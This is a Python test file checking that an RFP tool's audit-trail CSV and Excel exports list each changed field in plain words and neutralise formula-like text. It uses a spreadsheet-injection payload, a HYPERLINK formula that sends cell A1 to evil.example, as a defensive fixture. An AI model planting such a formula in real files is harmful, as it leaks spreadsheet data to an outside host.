"""The audit trail downloads as CSV and Excel: every event (of the chosen type), one row
per changed field, in the product's words; text that looks like a formula stays text."""

from __future__ import annotations

import csv
import io

import openpyxl

from rfp import models as m
from rfp.core.audit import record

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _arrange(db, evaluation_id: int) -> None:
    with db.transaction() as s:
        evaluation = s.get(m.Evaluation, evaluation_id)
        record(
            s,
            evaluation,
            None,
            "settings.changed",
            "price_formula",
            old={"price_formula": "lowest_ratio", "scope.aht_minutes": 6},
            new={"price_formula": "linear", "scope.aht_minutes": 7},
            reason=HOSTILE,
            actor="Morgan Avery",
        )


def test_the_csv_has_a_row_per_changed_field_in_words_and_defused(client, auth, db, demo):
    evaluation_id = demo["evaluation"]
    _arrange(db, evaluation_id)
    auth.login("morgan")
    response = client.get(f"/evaluations/{evaluation_id}/audit/audit-trail.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert 'filename="audit-trail-' in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == [
        "Event", "When (UTC)", "Who", "Action", "Target", "Field", "Old value", "New value",
        "Reason",
    ]  # fmt: skip
    changed = [r for r in rows[1:] if r[3] == "Settings changed"]
    assert [(r[5], r[6], r[7]) for r in changed] == [
        ("Price formula", "Lowest price ratio", "Linear between lowest and highest"),
        ("Scope: Average handle time (minutes)", "6", "7"),
    ]
    # A spreadsheet opening the file sees text, not a formula.
    assert {r[8] for r in changed} == {"'" + HOSTILE}
    # Oldest first: the import is the first event.
    assert rows[1][3] == "Evaluation imported"


def test_the_workbook_writes_every_value_as_text(client, auth, db, demo):
    evaluation_id = demo["evaluation"]
    _arrange(db, evaluation_id)
    auth.login("morgan")
    response = client.get(f"/evaluations/{evaluation_id}/audit/audit-trail.xlsx?type=settings")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["Audit trail"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][3] == "Action" and len(rows) == 3  # the header and two fields
    reason = sheet.cell(2, 9)
    assert reason.value == HOSTILE and reason.data_type == "s"  # a string, never a formula
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:I3"
